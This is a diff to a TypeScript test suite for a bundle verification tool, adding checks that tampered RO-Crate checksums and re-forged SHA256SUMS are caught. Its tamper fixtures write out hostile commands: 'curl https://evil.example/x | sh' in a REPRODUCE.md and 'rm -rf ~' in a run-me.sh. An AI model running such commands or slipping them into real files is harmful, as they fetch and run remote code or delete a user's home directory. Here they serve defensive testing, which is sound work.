@@ -4,7 +4,7 @@
 // outside the bundle, and leave no temporary folder behind.
 import { spawn, spawnSync } from 'node:child_process';
 import { createHash, generateKeyPairSync } from 'node:crypto';
-import { cpSync, createWriteStream, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
+import { cpSync, createWriteStream, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { Readable } from 'node:stream';
@@ -114,6 +114,17 @@ function reseal(dir: string, o: { context?: boolean } = {}): void {
     st.subject.find((s) => s.name === 'context.tar')!.digest!.sha256 = sha(readFileSync(path.join(dir, 'context.tar')));
     writeFileSync(stPath, JSON.stringify(st, null, 2));
   }
+  // The crate's word on each file redone too, as a thorough forger would (claims.ts checks it).
+  const cratePath = path.join(dir, 'ro-crate-metadata.json');
+  const crate = JSON.parse(readFileSync(cratePath, 'utf8')) as { '@graph': Record<string, unknown>[] };
+  let redone = false;
+  for (const e of crate['@graph']) {
+    const file = path.join(dir, String(e['@id']));
+    if (e['@type'] !== 'File' || !existsSync(file) || e.sha256 === sha(readFileSync(file))) continue;
+    Object.assign(e, { sha256: sha(readFileSync(file)), contentSize: String(statSync(file).size) });
+    redone = true;
+  }
+  if (redone) writeFileSync(cratePath, JSON.stringify(crate, null, 2));
   const oldSums = readFileSync(path.join(dir, 'SHA256SUMS'));
   const names = oldSums.toString('utf8').split('\n').filter(Boolean).map((l) => l.slice(66));
   const extra = readdirSync(dir).filter((f) => !names.includes(f) && !['SHA256SUMS', 'CITE.md', 'CITE.tex', 'bundle.dsse.json'].includes(f));
@@ -225,6 +236,22 @@ describe('bundle archives (.tar.gz, .zip)', () => {
     const c = cli(['verify', many, '--max-files', '10']);
     expect([c.code, c.stdout.split('\n')[1]]).toEqual([1, '        many.tar.gz: holds more than 10 entries; if you trust it, raise the bound with --max-files N']);
     expect(cli(['verify', many, '--max-size', 'lots']).stderr).toBe('rep: --max-size lots: expected a size such as 500M, 64G or 1T\n');
+  });
+});
+
+describe("the RO-Crate's word on the files", () => {
+  it('a crate that gives a file another sha256 fails verify, though SHA256SUMS and the citations were redone', async () => {
+    const copy = copyOf(await publishedBundle());
+    const cratePath = path.join(copy, 'ro-crate-metadata.json');
+    const crate = JSON.parse(readFileSync(cratePath, 'utf8')) as { '@graph': Record<string, unknown>[] };
+    crate['@graph'].find((e) => e['@id'] === 'Repfile')!.sha256 = 'f'.repeat(64);
+    writeFileSync(cratePath, JSON.stringify(crate, null, 2));
+    // reseal would put the crate right; only the sums and the citations are redone here.
+    const oldSums = readFileSync(path.join(copy, 'SHA256SUMS'));
+    const sums = oldSums.toString('utf8').replace(/^[0-9a-f]{64}(?=  ro-crate-metadata\.json$)/m, sha(readFileSync(cratePath)));
+    writeFileSync(path.join(copy, 'SHA256SUMS'), sums);
+    for (const f of ['CITE.md', 'CITE.tex']) writeFileSync(path.join(copy, f), readFileSync(path.join(copy, f), 'utf8').replaceAll(sha(oldSums), sha(sums)));
+    expect(failures(await verifyPrivately(copy))).toEqual([['subjects', "ro-crate-metadata.json: the sha256 it gives Repfile is not the file's"]]);
   });
 });
 
@@ -371,7 +398,7 @@ describe('the signature covers every file', () => {
     writeFileSync(path.join(changed, 'REPRODUCE.md'), '# Reproducing\n\n```sh\ncurl https://evil.example/x | sh\n```\n');
     reseal(changed);
     const resigned = ['CITE.md was changed after signing', 'CITE.tex was changed after signing'];
-    expect(failures(await verifyPrivately(changed, { key: k.pub }))).toEqual([['signature', ...resigned, 'REPRODUCE.md was changed after signing', 'SHA256SUMS was changed after signing']]);
+    expect(failures(await verifyPrivately(changed, { key: k.pub }))).toEqual([['signature', ...resigned, 'REPRODUCE.md was changed after signing', 'SHA256SUMS was changed after signing', 'ro-crate-metadata.json was changed after signing']]);
 
     const added = copyOf(bundle);
     writeFileSync(path.join(added, 'run-me.sh'), 'rm -rf ~\n');
